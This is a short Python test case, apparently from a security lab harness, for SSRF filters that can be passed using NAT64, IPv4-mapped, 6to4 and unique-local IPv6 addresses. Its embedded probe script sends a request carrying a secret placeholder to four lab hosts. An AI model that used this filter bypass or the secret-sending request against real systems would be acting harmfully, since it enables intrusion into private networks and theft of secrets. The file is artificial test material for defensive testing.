"""reaches a private address by IPv6 forms that a translator turns into it"""

from evidence import secret_left as succeeded

SHAPE = "SSRF filters passed by NAT64 and mapped addresses"
PROMISE = "P25"
LAB = True
OPTIONS = {"hosts": [f"{n}.rwlab.net:80" for n in ("nat64", "mapped", "sixtofour", "unique-local")]}
PYTHON = """
import socket
for name in ("nat64.rwlab.net", "mapped.rwlab.net", "sixtofour.rwlab.net", "unique-local.rwlab.net"):
    try:
        with socket.create_connection((name, 80), 5) as line:
            line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: x.rwlab.net\\r\\n\\r\\n".replace(b"x.rwlab.net", name.encode()))
            line.recv(999)
    except OSError:
        pass
"""
